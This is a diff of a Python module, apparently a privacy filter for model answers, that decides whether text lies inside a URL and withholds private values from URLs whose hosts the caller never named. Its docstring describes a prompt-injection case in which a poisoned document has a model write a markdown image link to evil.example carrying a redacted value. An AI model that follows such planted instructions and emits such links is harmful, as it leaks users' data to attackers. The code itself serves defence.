@@ -1,6 +1,6 @@
 """Whether a point in an answer lies inside a URL, and of which host.
 
-A model that was told by a poisoned document to write `![](https://evil.example/?q=<PERSON_1>)` would
+A model that a poisoned document told to write `![](https://evil.example/?q=<PERSON_1>)` would
 have the caller's own screen send the value out. So a value isn't restored inside a URL, unless its
 host was mentioned by the caller (system, developer and user text) or is listed by policy.
 
@@ -34,7 +34,9 @@ _ATTRIBUTE = re.compile(
 )
 _DESTINATION = re.compile(r"\]\s*(?:\(|:)\s*<([^<>\n]*)\Z")
 
-_SCHEME = re.compile(r"(?:https?|ftp|wss?|file|blob):[/\\]*|[a-z][a-z0-9+.-]*:[/\\]{2,}", re.I)
+_SCHEME = re.compile(
+    r"(?:https?|ftp|wss?|file|blob):[/\\]*|[a-z][a-z0-9+.-]*:[/\\]{2,}", re.IGNORECASE
+)
 _MAIL = re.compile(r"mailto:[^?]*\?", re.IGNORECASE)
 _WWW = re.compile(r"(?<![\w.-])www\.", re.IGNORECASE)
 _BARE_HOST = re.compile(
@@ -89,7 +91,7 @@ def _last_word(text: str) -> str:
     if not text or text[-1].isspace():
         return ""
     word = text.rsplit(None, 1)[-1]
-    return max((word.rpartition(end)[2] for end in "\"<>`"), key=lambda rest: -len(rest))
+    return max((word.rpartition(end)[2] for end in '"<>`'), key=lambda rest: -len(rest))
 
 
 def _last_url(text: str) -> tuple[int, str] | None:
